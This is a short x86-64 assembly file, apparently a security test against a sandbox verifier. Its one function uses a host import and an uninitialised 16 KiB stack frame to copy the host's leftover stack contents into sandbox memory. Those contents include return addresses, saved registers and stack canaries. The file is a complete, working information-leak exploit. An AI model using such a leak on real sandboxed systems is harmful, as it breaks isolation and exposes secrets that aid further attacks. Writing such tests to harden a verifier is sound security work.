# stackleak.s: attack(buf) calls a system-interface import (open, with a
# path), which runs in host code on the sandbox native stack below the
# caller; then it grows its frame by 16 KiB (a frame the verifier accepts,
# disp(%rsp) >= 0, no initialisation required) and copies that dead stack
# memory, full of the host's return addresses, saved registers, stack
# canaries and buffers, into the region at buf.
        .text
        .p2align 4, 0xcc
        .globl attack
        .type attack,@function
attack:
        pushq %rdi                  # off 8; buf
        leaq path(%rip), %rdi
        xorl %esi, %esi
        xorl %edx, %edx
        call *__sfi_sys_open@GOTPCREL(%rip)
        movq (%rsp), %rdi
        subq $16384, %rsp           # off 16392
        .set n, 0
        .rept 2048
        movq n(%rsp), %rax
        movq %rax, %gs:n(%edi)
        .set n, n + 8
        .endr
        addq $16392, %rsp
        ret

        .section .rodata,"a",@progbits
path:   .asciz "nonexistent/file"

        .include "marker.inc"
        .section .note.GNU-stack,"",@progbits
